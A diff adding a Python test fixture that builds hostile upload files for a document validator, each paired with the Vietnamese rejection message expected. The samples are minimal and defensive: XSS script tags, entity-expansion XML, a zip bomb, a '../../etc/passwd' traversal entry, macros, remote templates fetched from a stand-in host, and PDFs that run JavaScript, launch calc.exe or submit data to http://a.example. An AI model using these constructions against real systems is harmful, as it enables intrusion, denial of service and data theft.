@@ -1,0 +1,155 @@
+"""Files that no office sends: each with what the door says of it."""
+
+import io
+import struct
+import zipfile
+import zlib
+from collections.abc import Callable
+
+from pypdf import PdfWriter
+from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
+
+from tests.factories.files import EXCEL, office, pdf, picture, relations
+
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
+LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><x>&b;</x>'
+
+
+def _action(**entries: str) -> DictionaryObject:
+    return DictionaryObject(
+        {
+            NameObject(f"/{key}"): NameObject(value) if value.startswith("/") else TextStringObject(value)
+            for key, value in entries.items()
+        }
+    )
+
+
+def _written(writer: PdfWriter) -> bytes:
+    stream = io.BytesIO()
+    writer.write(stream)
+    return stream.getvalue()
+
+
+def _with_script() -> bytes:
+    writer = PdfWriter()
+    writer.add_blank_page(595, 842)
+    names = ArrayObject([TextStringObject("a"), _action(S="/JavaScript", JS="app.alert(1)")])
+    tree = DictionaryObject({NameObject("/Names"): names})
+    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})
+    return _written(writer)
+
+
+def _with_attachment() -> bytes:
+    writer = PdfWriter()
+    writer.add_blank_page(595, 842)
+    writer.add_attachment("a.exe", b"MZ")
+    return _written(writer)
+
+
+def _locked() -> bytes:
+    writer = PdfWriter()
+    writer.add_blank_page(595, 842)
+    writer.encrypt("matkhau")
+    return _written(writer)
+
+
+def _hidden_name() -> bytes:
+    """The name of a script with a letter written as a number, in an object that nothing points to."""
+    whole = pdf()
+    at = whole.index(b"startxref")
+    return whole[:at] + b"99 0 obj\n<< /S /J#61vaScript /J#53 (app.alert) >>\nendobj\n" + whole[at:]
+
+
+def _bomb() -> bytes:
+    return office({"word/media.xml": b"0" * 130 * 1024 * 1024})
+
+
+def _lying_sizes() -> bytes:
+    """A part that says it is small, and is not."""
+    data = bytearray(office({"word/a.xml": b"<x>" + b"0" * 3_000_000 + b"</x>"}))
+    real = struct.pack("<L", 3_000_007)
+    return bytes(data.replace(real, struct.pack("<L", 100)))
+
+
+def _many_entries() -> bytes:
+    return office({f"word/{n}.xml": "<x/>" for n in range(2_100)})
+
+
+def _twice() -> bytes:
+    stream = io.BytesIO(office())
+    with zipfile.ZipFile(stream, "a") as archive:
+        archive.writestr("WORD/document.xml", "<x/>")
+    return stream.getvalue()
+
+
+def _png_of(width: int, height: int) -> bytes:
+    """A small file that is a huge picture."""
+
+    def chunk(kind: bytes, data: bytes) -> bytes:
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
+    rows = zlib.compress(b"\0" * ((width // 8 + 1) * height), 9)
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
+
+
+HOSTILE: dict[str, tuple[bytes | Callable[[], bytes], str]] = {
+    "nothing": (b"", "Tệp rỗng"),
+    "web page": (b"<html><script>alert(1)</script></html>", "không nhận ra"),
+    "svg": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "không nhận ra"),
+    "program": (b"MZ" + b"\0" * 100, "không nhận ra"),
+    "old Word": (OLE, "đời cũ"),
+    "plain archive": (office(main="application/zip"), "không phải tệp Word hay Excel"),
+    "both Word and Excel": (
+        office(types=f'<Override PartName="/xl/workbook.xml" ContentType="{EXCEL}"/>'),
+        "không phải tệp Word hay Excel",
+    ),
+    "entities": (office({"word/styles.xml": LAUGHS}), "DOCTYPE"),
+    "entities in UTF-16": (office({"word/styles.xml": LAUGHS.encode("utf-16")}), "DOCTYPE"),
+    "entities in relations": (office({"word/_rels/document.xml.rels": LAUGHS}), "DOCTYPE"),
+    "macros": (office({"word/vbaProject.bin": OLE}), "macro"),
+    "macros by type": (
+        office(types='<Default Extension="bin" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'),
+        "macro",
+    ),
+    "embedded object": (office({"word/embeddings/oleObject1.bin": OLE}), "đối tượng nhúng"),
+    "object under another name": (office({"word/media/image1.png": OLE}), "tệp khác nằm bên trong"),
+    "archive inside": (office({"word/media/image1.jpeg": office()}), "tệp khác nằm bên trong"),
+    "ActiveX": (office({"word/activeX/activeX1.xml": "<x/>"}), "ActiveX"),
+    "template from afar": (
+        office({"word/_rels/settings.xml.rels": relations("attachedTemplate", "http://a.example/x.dotm")}),
+        "lấy dữ liệu từ ngoài",
+    ),
+    "template on a share": (
+        office({"word/_rels/settings.xml.rels": relations("attachedTemplate", "file://///a.example/x.dotm")}),
+        "lấy dữ liệu từ ngoài",
+    ),
+    "picture from afar": (
+        office({"word/_rels/document.xml.rels": relations("image", "http://a.example/x.png")}),
+        "lấy dữ liệu từ ngoài",
+    ),
+    "script as a link": (
+        office({"word/_rels/document.xml.rels": relations("hyperlink", "javascript:alert(1)")}),
+        "lấy dữ liệu từ ngoài",
+    ),
+    "linked workbook": (office({"xl/externalLinks/externalLink1.xml": "<x/>"}, main=EXCEL), "bảng tính khác"),
+    "data connection": (office({"xl/connections.xml": "<x/>"}, main=EXCEL), "kết nối lấy dữ liệu"),
+    "bomb": (_bomb, "quá lớn khi mở ra"),
+    "sizes that lie": (_lying_sizes, "bị hỏng"),
+    "many entries": (_many_entries, "quá lớn khi mở ra"),
+    "out of its folder": (office({"../../etc/passwd": "x"}), "bị hỏng"),
+    "the same part twice": (_twice, "bị hỏng"),
+    "half an archive": (office()[:-60], "bị hỏng"),
+    "PDF with a script": (_with_script, "JavaScript"),
+    "PDF that launches": (pdf(OpenAction=_action(S="/Launch", F="calc.exe")), "lệnh mở chương trình"),
+    "PDF with a file in it": (_with_attachment, "tệp nhúng"),
+    "PDF with a hidden script": (_hidden_name, "JavaScript"),
+    "PDF that sends": (pdf(OpenAction=_action(S="/SubmitForm", F="http://a.example")), "gửi dữ liệu"),
+    "locked PDF": (_locked, "mật khẩu"),
+    "half a PDF": (pdf()[:200], "bị hỏng"),
+    "PDF in name only": (b"%PDF-1.7\n" + b"x" * 2_000, "bị hỏng"),
+    "PDF of 1,001 pages": (lambda: pdf(1_001), "tách thành nhiều tệp"),
+    "huge picture": (lambda: _png_of(13_000, 13_000), "quá lớn"),
+    "picture of no size": (_png_of(1, 1)[:40], "bị hỏng"),
+    "half a picture": (picture("JPEG", (400, 400))[:500], "bị hỏng"),
+}
